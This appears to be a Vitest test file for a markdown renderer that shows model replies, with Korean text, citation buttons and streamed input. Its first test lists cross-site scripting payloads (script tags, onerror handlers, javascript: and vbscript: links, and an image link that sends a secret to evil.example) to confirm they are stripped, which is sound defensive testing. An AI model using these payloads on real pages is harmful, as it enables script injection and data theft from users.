import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

function html(text: string, known: readonly number[] = []): string {
  const box = document.createElement('div');
  box.append(renderMarkdown(text, (n) => (known.includes(n) ? `출처 ${String(n)}` : null)));
  return box.innerHTML;
}

describe('Markdown of a model', () => {
  it('lets nothing through that runs, loads or styles', () => {
    const evil = [
      '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '![x](https://evil.example/?q=secret)', '[x](javascript:alert(1))',
      '<a href="data:text/html,x">x</a>', '<iframe src="//evil"></iframe>', '<svg onload=alert(1)>', '<p style="position:fixed">x</p>',
      '<form action="//evil"><input name=a></form>', '<style>*{display:none}</style>', '<math><mtext><img src=x onerror=1></mtext></math>',
      '<div id="root" class="x" data-cite="1" onclick="x()">y</div>', '[a](vbscript:x)', '<a href="https://ok" onclick="x()">ok</a>',
    ].join('\n\n');
    const out = html(evil);
    expect(out).not.toMatch(/<(?:script|img|iframe|svg|form|input|style|math|div[^>]+id)/i);
    expect(out).not.toMatch(/on\w+=|javascript:|vbscript:|data:|style=|class=|data-cite/i);
  });

  it('opens links outside without telling where from', () => {
    expect(html('[곳](https://example.org/a)')).toContain('href="https://example.org/a" target="_blank" rel="noopener noreferrer nofollow"');
  });

  it('makes strong what stands before a Korean particle', () => {
    expect(html('**“마당 깊은 집”**으로 정했어요')).toContain('<strong>“마당 깊은 집”</strong>으로');
    expect(html('그냥 ** 두 별 ** 이에요')).not.toContain('<strong>');
  });

  it('turns known citations into buttons and leaves other numbers and code alone', () => {
    const out = html('7시예요.[1] 배열[3] `a[1]`', [1]);
    expect(out).toContain('<button type="button" data-cite="1" aria-label="출처 1">1</button>');
    expect(out).toContain('배열[3]');
    expect(out).toContain('<code>a[1]</code>');
  });

  it('shows every prefix of a stream without failing', () => {
    const text = '**굵게** 그리고 [링크](https://example.org) 와 `코드`\n\n- 하나\n- 둘\n\n| a | b |\n|---|---|\n| 1 | 2 |';
    for (let i = 0; i <= text.length; i++) expect(() => html(text.slice(0, i))).not.toThrow();
  });
});
